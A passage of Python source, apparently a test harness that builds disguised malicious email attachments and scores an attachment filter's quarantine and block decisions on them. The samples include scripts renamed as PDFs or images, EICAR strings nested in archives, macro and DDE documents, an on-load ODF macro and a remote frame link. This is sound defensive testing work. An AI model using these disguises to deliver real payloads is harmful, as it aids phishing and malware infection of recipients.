                    make_pptx(1),
                    {},
                    {"ppt/slides/_rels/slide1.xml.rels": [rel("rId99", "frame", "http://203.0.113.9/f.html", True)]},
                ),
                PPTX,
            )
        ],
        "xlsx-activex": [
            (
                "form.xlsx",
                _ooxml_with(
                    make_xlsx(),
                    {
                        "xl/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
                        "xl/activeX/activeX1.bin": cfb({"contents": b"\x00" * 100}),
                    },
                ),
                XLSX,
            )
        ],
        "docx-pe-named-png": [("letter.docx", _ooxml_with(make_docx(), {"word/media/image5.png": pe}), DOCX)],
        "epub-with-pe": [("book.epub", inject(make_epub(), {"OEBPS/images/cover2.jpg": pe}), "application/epub+zip")],
        "jar-renamed-zip": [
            (
                "photos.zip",
                b.zip_of(
                    {
                        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: a.Main\r\n",
                        "a/Main.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64,
                    }
                ),
                "application/zip",
            )
        ],
        "apk": [
            (
                "game.apk",
                b.zip_of(
                    {
                        "AndroidManifest.xml": b"\x03\x00\x08\x00" + b"\x00" * 64,
                        "classes.dex": b"dex\n035\x00" + b"\x00" * 100,
                    }
                ),
                "application/vnd.android.package-archive",
            )
        ],
        "docm-in-zip-in-7z": [
            (
                "files.7z",
                b.sevenzip_of({"inner.zip": b.zip_of({"claim.docm": docx_macro})}),
                "application/x-7z-compressed",
            )
        ],
        "dde-docx-in-eml": [("fwd.eml", _message_bytes([("notice.docx", _dde_docx(), DOCX)]), "message/rfc822")],
        "bat-named-pdf": [("invoice.pdf", BAT, "application/pdf")],
        "cmd-named-pdf-octet": [("scan.pdf", CMD, "application/octet-stream")],
        "vbs-declared-jpeg": [("photo", VBS, "image/jpeg")],
        "ps1-named-png": [("chart.png", PS1, "image/png")],
        "jscript-named-jpg": [("holiday.jpg", JSCRIPT, "image/jpeg")],
        "hta-named-pdf": [("form.pdf", HTA, "application/pdf")],
        "vbs-utf16-named-pdf": [("letter.pdf", b"\xff\xfe" + VBS.decode().encode("utf-16-le"), "application/pdf")],
        "eicar-named-pdf": [("report.pdf", EICAR, "application/pdf")],
        "eicar-declared-png": [("image001.png", EICAR, "image/png")],
        "eicar-declared-gif-no-name": [("", EICAR, "image/gif")],
        "eicar-com": [("eicar.com", EICAR, "application/octet-stream")],
        "eicar-in-zip-in-zip": [
            ("docs.zip", b.zip_of({"inner.zip": b.zip_of({"readme.pdf": EICAR})}), "application/zip")
        ],
        "eicar-in-docx-package": [
            (
                "letter.docx",
                _ooxml_with(make_docx(), {"word/embeddings/oleObject1.bin": _ole_package("readme.pdf", EICAR)}),
                DOCX,
            )
        ],
        "eicar-in-targz": [("logs.tar.gz", b.targz_of({"logs/day1.jpg": EICAR}), "application/gzip")],
        "vbs-inside-fake-epub": [("invoices.zip", inject(make_epub(), {"Invoice.pdf.vbs": VBS}), "application/zip")],
        "exe-named-part-in-docx": [
            ("letter.docx", _ooxml_with(make_docx(), {"word/setup.exe": b"not a PE but named so"}), DOCX)
        ],
        "bat-in-zip-named-pdf": [("scans.zip", b.zip_of({"scan1.pdf": BAT}), "application/zip")],
    }
    return corpus


def _odf_event_macro() -> bytes:
    document = make_odf("odt")
    with zipfile.ZipFile(io.BytesIO(document)) as zf:
        xml = zf.read("content.xml")
    listener = (
        b'<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        b'script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>'
        b"</office:event-listeners></office:scripts>"
    )
    xml = xml.replace(b"<office:body>", listener + b"<office:body>", 1)
    return inject(document, {"content.xml": xml})


def evaluate_corpus(corpus: dict[str, list[Sample]]) -> dict[str, tuple[str, str, list[str]]]:
    """Name -> (inbound action, outbound action, rule ids) under the shipped policy."""
    from tests.test_attachments import INBOUND, OUTBOUND, decide

    results: dict[str, tuple[str, str, list[str]]] = {}
    for name, attachments in corpus.items():
        inbound = decide(b.message_with(attachments, sender="x@outside.test", to="t@oakfield.example"), INBOUND)
        outbound = decide(b.message_with(attachments, sender="t@oakfield.example", to="x@outside.test"), OUTBOUND)
        results[name] = (
            str(inbound.action),
            str(outbound.action),
            sorted(set(inbound.rule_ids) | set(outbound.rule_ids)),
        )
    return results


def main() -> None:
    stopped = {"quarantine", "block"}
    good = evaluate_corpus(benign())
    bad = evaluate_corpus(dangerous())
    for name, (inb, outb, rules) in sorted(good.items()):
        print(f"benign    {name:45} in={inb:10} out={outb:10} {','.join(rules)}")
    for name, (inb, outb, rules) in sorted(bad.items()):
        print(f"dangerous {name:45} in={inb:10} out={outb:10} {','.join(rules)}")
    n_stopped = sum(1 for i, o, _ in good.values() if i in stopped or o in stopped)
    n_caught = sum(1 for i, o, _ in bad.values() if i in stopped and o in stopped)
    print(f"benign documents stopped: {n_stopped} of {len(good)}")
    print(f"dangerous samples caught (both directions): {n_caught} of {len(bad)}")


if __name__ == "__main__":
    main()
